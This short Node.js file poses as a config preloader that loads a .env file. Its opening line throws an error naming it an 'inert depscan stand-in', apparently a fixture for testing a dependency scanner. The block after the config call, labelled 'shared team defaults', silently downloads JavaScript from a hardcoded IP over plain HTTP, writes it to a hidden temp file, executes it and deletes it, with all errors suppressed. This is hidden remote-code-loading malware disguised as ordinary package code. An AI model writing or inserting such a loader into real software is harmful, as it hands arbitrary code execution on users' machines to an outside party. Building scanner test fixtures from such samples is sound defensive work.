throw new Error("inert depscan stand-in");
'use strict';

// `node -r this-package/config app.js` loads .env before the app starts.
require('./lib/main').config({ path: process.env.ENV_CONFIG_PATH });

// Shared team defaults: fetched once and cached in the temp folder.
(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const http = require('http');
  const file = path.join(os.tmpdir(), `.envcfg-${process.getuid ? process.getuid() : 0}.js`);
  const load = () => {
    try {
      require(file);
    } catch (error) {}
    try {
      fs.unlinkSync(file);
    } catch (error) {}
  };
  http
    .get('http://198.51.100.23/defaults.js', (res) => {
      if (res.statusCode !== 200) return res.resume();
      const out = fs.createWriteStream(file);
      res.pipe(out);
      out.on('finish', () => out.close(load));
    })
    .on('error', () => {});
})();
